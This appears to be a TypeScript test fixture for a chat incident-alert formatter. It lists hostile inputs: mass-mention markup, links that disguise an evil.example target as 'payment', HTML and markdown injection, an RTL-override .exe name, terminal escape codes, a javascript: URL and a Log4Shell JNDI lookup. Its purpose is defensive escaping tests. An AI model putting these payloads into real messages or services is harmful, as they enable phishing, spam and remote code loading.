import type { Message } from '../../src/domain/message.ts';
import { aMessage } from '../doubles/incident-story.ts';

/** Names that a span may carry to ring people, forge links, or break a payload. */
export const HOSTILE_TEXTS = [
  '<!channel>',
  '<!here|here>',
  '<@U012ABCDEF>',
  '<#C012ABCDEF>',
  '<!subteam^S012345>',
  '<http://evil.example|payment>',
  '&lt;!channel&gt;',
  '@channel @here @everyone',
  '<at id=all></at>',
  '<at user_id="all">everyone</at>',
  '[payment](http://evil.example)',
  '![x](img_v2_1)',
  '*bold* _it_ ~gone~ `code` ```block```',
  '**payment**\n# heading\n---',
  '<font color="red">x</font><a href="http://evil.example">y</a>',
  'http://evil.example/login',
  'www.evil.example/login &#64;all (x) (/) :) :D',
  '"},{"type":"header"}',
  '\u202egnp.exe\u202c',
  '\u001b[2J\u0007\u0000',
  '\ud800 half \udc00',
  '${jndi:ldap://evil.example/a}',
  '：付款 服务🔥',
];

/** The same hostile text wherever a span's text may stand. */
export function hostileMessage(text: string, locale: Message['locale'] = 'en'): Message {
  return aMessage({
    locale,
    title: `P1 ${text} is slow`,
    summary: text,
    facts: [{ label: 'Hit', value: text }],
    suspects: [{ rank: 1, name: text, share: 0.5, why: text }],
    evidence: [text],
    traces: [
      { role: 'slow', traceId: text },
      { role: 'typical', traceId: 'a'.repeat(32), url: 'javascript:alert(1)' },
    ],
    logs: [text],
    nextSteps: [`Look at ${text}`],
  });
}

/** Far more of everything than any channel takes, in characters of three bytes and of five escaped ones. */
export function hugeMessage(): Message {
  const long = '&链<路'.repeat(20_000);
  return aMessage({
    title: long,
    summary: long,
    facts: Array.from({ length: 200 }, () => ({ label: long, value: long })),
    suspects: Array.from({ length: 200 }, (_, i) => ({ rank: i + 1, name: long, share: 0.001, why: long })),
    evidence: Array.from({ length: 500 }, () => long),
    traces: Array.from({ length: 300 }, () => ({
      role: 'slow' as const,
      traceId: long,
      url: `http://jaeger/trace/${'a'.repeat(2500)}`,
    })),
    logs: Array.from({ length: 500 }, () => long),
    nextSteps: Array.from({ length: 100 }, () => long),
    links: Array.from({ length: 100 }, () => ({ label: long, url: `http://x/${'b'.repeat(2500)}` })),
  });
}
